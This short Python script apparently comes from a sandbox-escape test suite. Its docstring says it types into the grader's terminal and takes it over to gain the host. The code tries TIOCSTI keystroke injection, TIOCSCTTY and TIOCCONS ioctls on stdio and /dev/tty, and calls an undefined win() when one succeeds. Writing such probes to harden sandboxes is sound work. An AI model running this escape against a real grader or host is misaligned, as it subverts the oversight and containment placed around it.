"""Types into the grader's terminal, and takes it over as its own.

gain: host
"""

# %%
import fcntl
import os
import termios

for fd in (0, 1, 2, attempt(os.open, "/dev/tty", os.O_RDWR)):
    for request in (termios.TIOCSTI, termios.TIOCSCTTY, termios.TIOCCONS):
        try:
            fcntl.ioctl(fd, request, b"x")
            win()
        except (OSError, TypeError):
            pass
